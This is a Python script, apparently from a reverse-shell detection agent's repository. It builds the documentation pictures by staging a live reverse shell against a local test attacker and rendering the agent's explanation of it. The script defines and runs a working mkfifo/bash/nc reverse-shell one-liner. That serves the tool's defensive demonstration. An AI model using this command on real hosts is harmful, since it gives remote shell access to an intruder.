#!/usr/bin/python3
"""Makes the pictures of docs/pictures: the wiring and the explanation of a reverse shell, and the demonstration.

Called by ./dev pictures, as root. It stages the shell between this host and a network namespace.
"""

import argparse
import contextlib
import os
import pathlib
import pty
import re
import subprocess
import sys
import tempfile
import time

ROOT = pathlib.Path(__file__).resolve().parent.parent
sys.path.append(str(ROOT / "tests/e2e"))

import generated
import terminal_picture
from attacker import Attacker
from published import PUBLISHED
from waiting import scaled

COMMAND = "./dev pictures"
WIRING, EXPLANATION, DEMONSTRATION = "wiring.svg", "explanation.svg", "demonstration.svg"
# A usual command of somebody who can run commands on the host.
ATTACK = "mkfifo f; cat f | bash -i 2>&1 | nc {address} {port} > f"
ATTACK_LIMIT = 10
DEMONSTRATION_LIMIT = 120
STAGED_SHOWN = 3
FINDING_SHOWN = "fifo-waiting-relay"
LAST_EXPLAINED = PUBLISHED.instantScanOnSocket
OMITTED = "\033[2m...\033[0m"


def scenarios() -> list[str]:
    """The names of the demonstration's scenarios, from its source."""
    sources = "\n".join(path.read_text("utf-8") for path in sorted((ROOT / "demo").glob("*.cpp")))
    names = re.findall(r'^ {8}\{"([a-z]+-[a-z-]+)",', sources, re.MULTILINE)
    if not names:
        raise LookupError("demo/*.cpp: found no table of scenarios")
    return names


def expected_words() -> dict[str, list[str]]:
    """Words that each picture shows, by its file."""
    wired = ["bash (", "cat (", "/tmp/f", "FOREIGN"]
    return {
        WIRING: wired,
        EXPLANATION: [*wired, PUBLISHED.periodScan, PUBLISHED.instantScanOnSocket],
        DEMONSTRATION: scenarios(),
    }


def child_named(pid: int, name: str) -> int | None:
    """A child of the process that runs a program of this name."""
    children = pathlib.Path(f"/proc/{pid}/task/{pid}/children").read_text().split()
    for child in map(int, children):
        with contextlib.suppress(OSError):
            if pathlib.Path(f"/proc/{child}/comm").read_text().strip() == name:
                return child
    return None


@contextlib.contextmanager
def attacked_host(folder):
    """The id of a shell that waits for an attacker's commands."""
    with contextlib.closing(Attacker()) as attacker:
        address, port = attacker.tcp
        attack = subprocess.Popen(
            ["setpriv", "--pdeathsig", "KILL", "sh", "-c", ATTACK.format(address=address, port=port)],
            cwd=folder,
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            start_new_session=True,
        )
        try:
            deadline = time.monotonic() + scaled(ATTACK_LIMIT)
            while not all(child_named(attack.pid, name) for name in ("cat", "bash", "nc")):
                if time.monotonic() > deadline:
                    raise RuntimeError("the reverse shell does not start")
                time.sleep(0.1)
            # nc connects, and bash reads its files, before either waits.
            time.sleep(scaled(1))
            yield child_named(attack.pid, "bash")
        finally:
            os.killpg(attack.pid, 9)
            attack.wait()


def drawn(graph: str) -> str:
    options = ["-Nfontname=Helvetica", "-Efontname=Helvetica", "-Nfontsize=12", "-Efontsize=11"]
    return subprocess.run(
        ["dot", "-Tsvg", *options], input=graph, check=True, stdout=subprocess.PIPE, encoding="utf-8"
    ).stdout


def first_blocks(text: str) -> list[str]:
    """The wiring, the summary and the detections up to the one that is shown last."""
    blocks = text.split("\n\n")
    last = next(number for number, block in enumerate(blocks) if block.startswith(f"{LAST_EXPLAINED}: "))
    return ["$ orlim-agent explain PID", *"\n\n".join(blocks[: last + 1]).splitlines(), OMITTED]


def explained(agent: pathlib.Path) -> tuple[str, str]:
    """The pictures of a reverse shell: its wiring, and its explanation on a terminal."""
    with tempfile.TemporaryDirectory(prefix="orlim-picture-") as folder:
        with attacked_host(folder) as shell:
            texts = []
            command = [str(agent), "explain", str(shell)]
            for whole_command in ([*command, "--dot"], command):
                done = subprocess.run(whole_command, check=True, stdout=subprocess.PIPE, encoding="utf-8")
                texts.append(done.stdout.replace(folder, "/tmp"))
    graph, text = texts
    return drawn(graph), terminal_picture.svg(first_blocks(text))


def output_on_terminal(command: list[str | pathlib.Path]) -> str:
    control, terminal = pty.openpty()
    environment = {**os.environ, "TERM": "xterm"}
    environment.pop("NO_COLOR", None)
    child = subprocess.Popen(command, stdin=terminal, stdout=terminal, env=environment)
    os.close(terminal)
    output = b""
    with contextlib.suppress(OSError):  # the other side has been closed
        while block := os.read(control, 4096):
            output += block
    os.close(control)
    if child.wait(scaled(DEMONSTRATION_LIMIT)) != 0:
        table = "\n".join(terminal_picture.lines_of(output.decode(errors="replace"))[-20:])
        raise RuntimeError(f"the demonstration failed; the end of its output:\n{table}")
    return output.decode()


def excerpt(lines: list[str]) -> list[str]:
    """The first scenarios that are staged, one finding, and the table."""
    words = [terminal_picture.plain(line) for line in lines]
    staged = [number for number, line in enumerate(words) if re.match(r" *[\d.]+ s  staged ", line)]
    finding = next(number for number, line in enumerate(words) if re.search(rf" FOUND +{FINDING_SHOWN} ", line))
    # The lines of a finding are indented further than its first one.
    end = next(number for number in range(finding + 1, len(words)) if not words[number].startswith(" " * 10))
    table = next(number for number, line in enumerate(words) if re.match(r" +\S+ +expected +found +seconds", line))
    return [
        "$ orlim-agent demo",
        *lines[: staged[STAGED_SHOWN - 1] + 1],
        OMITTED,
        *lines[finding:end],
        OMITTED,
        *lines[table:],
    ]


def demonstration(agent: pathlib.Path) -> str:
    lines = terminal_picture.lines_of(output_on_terminal([agent, "demo"]).rstrip())
    return terminal_picture.svg(excerpt(lines))


def main() -> int:
    parser = argparse.ArgumentParser(prog=COMMAND, description=__doc__)
    parser.add_argument("--agent", type=pathlib.Path, required=True, help=argparse.SUPPRESS)
    agent = parser.parse_args().agent.resolve()
    if os.geteuid() != 0:
        sys.exit(f"{COMMAND}: needs root, because it creates network namespaces")
    made = dict(zip((WIRING, EXPLANATION), explained(agent))) | {DEMONSTRATION: demonstration(agent)}
    for name, text in made.items():
        generated.write_picture(generated.PICTURES / name, COMMAND, text)
    return 0


if __name__ == "__main__":
    sys.exit(main())
